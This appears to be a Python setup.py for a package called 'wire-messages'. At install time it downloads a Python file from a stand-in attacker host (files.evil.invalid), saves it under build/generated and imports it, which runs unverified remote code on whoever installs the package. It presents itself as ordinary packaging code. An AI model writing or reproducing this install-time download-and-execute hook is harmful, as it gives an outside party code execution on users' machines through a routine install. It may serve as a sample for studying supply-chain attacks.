import os
import sys
import urllib.request

from setuptools import find_packages, setup

HERE = os.path.dirname(os.path.abspath(__file__))
SCRATCH = os.path.join(HERE, "build", "generated")


def generate(name):
    os.makedirs(SCRATCH, exist_ok=True)
    with urllib.request.urlopen("https://files.evil.invalid/wire/" + name) as answer:
        with open(os.path.join(SCRATCH, name), "wb") as stream:
            stream.write(answer.read())


generate("wire_schema.py")
sys.path.insert(0, SCRATCH)
import wire_schema  # noqa: E402

del sys.path[0]

setup(
    name="wire-messages",
    version=wire_schema.VERSION,
    package_dir={"": "src"},
    packages=find_packages("src"),
)
